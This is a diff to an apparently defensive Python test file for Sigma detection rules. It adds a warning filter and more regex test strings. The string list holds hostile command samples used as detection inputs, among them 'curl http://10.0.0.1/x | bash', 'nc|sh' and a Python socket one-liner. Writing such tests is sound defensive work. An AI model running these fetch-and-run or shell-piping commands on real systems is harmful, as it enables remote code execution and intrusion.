@@ -50,6 +50,8 @@ OWN = Path(__file__).parents[1] / "data/sigma"
 PLACES = [OWN, *map(Path, filter(None, [os.environ.get("SIGMA_RULES")]))]
 FILES = [path for place in PLACES for path in sorted(place.rglob("*.y*ml"))]
 EVENTS = 300  # of each rule
+# Python means to read sets within sets one day, and says so.
+pytestmark = pytest.mark.filterwarnings("ignore:Possible:FutureWarning")
 SEED = 6
 
 TEXTS = ("Image", "CommandLine", "CurrentDirectory", "User", "ParentImage", "ParentCommandLine", "ParentUser")
@@ -228,6 +230,25 @@ REGEX_TEXTS = [
     *("Python3 -c import socket", "python -c socket.socket(", "begin\nend", "first\nsecond", "LD_PRELOAD=x"),
     *("curl http://10.0.0.1/x | bash", "x |sh", "10.0.0.1 socket.connect(", "ld_preload=x", "x| dashboard"),
     *("", "nothing of the kind", "1.2.3.4", "|  sh"),
+    *(
+        "nc;&&sh",
+        "nc|sh",
+        "nc&sh",
+        "ncsh",
+        "x[]y",
+        "xa]y",
+        "xb]y",
+        "xay",
+        "+z",
+        ",z",
+        "-z",
+        ".z",
+        ".q",
+        "/q",
+        "-q",
+        ",q",
+    ),
+    *("k~k", "k&k", "k-k", "v]v", "v^v", "v-v", "v[v", "w[]-<w", "w-<w", "w2<w", "w-w"),
 ]
 
 
